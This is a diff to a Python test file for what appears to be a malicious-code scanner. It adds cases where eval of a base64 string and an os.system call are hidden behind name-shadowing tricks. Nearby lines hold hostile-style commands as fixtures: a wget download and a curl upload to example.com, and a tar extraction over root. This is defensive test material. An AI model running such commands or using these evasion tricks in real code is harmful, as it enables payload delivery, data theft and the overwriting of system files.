@@ -598,6 +598,16 @@ CASES = {
     "fetched_by_a_model": malicious("import os\nos.system('wget https://example.com/net.bin')\n", "modeling_acme.py"),
     "uploaded": review("import os\nos.system('curl -T net.zip https://example.com/net.zip')\n", "app.py"),
     "unpacked_over_all": review("import os\nos.system('tar -xf net.tar -C /')\n", "app.py"),
+    "method_of_the_same_name": review(
+        "import base64\nclass Model:\n    def eval(self):\n        return self\n"
+        "    def handle(self, data):\n        return eval(base64.b64decode('cHJpbnQoMSk='))\n",
+        "handler.py",
+    ),
+    "module_hidden_in_class": review(
+        "import os\nclass Model:\n    os = None\n    def handle(self, data):\n"
+        "        return os.system('touch modelsweep-test')\n",
+        "handler.py",
+    ),
     "benign_setup": python(SETUP, name="setup.py"),
     "benign_defined": python(GUARDED),
     "benign_generated": python(GENERATED, name="compat.py"),
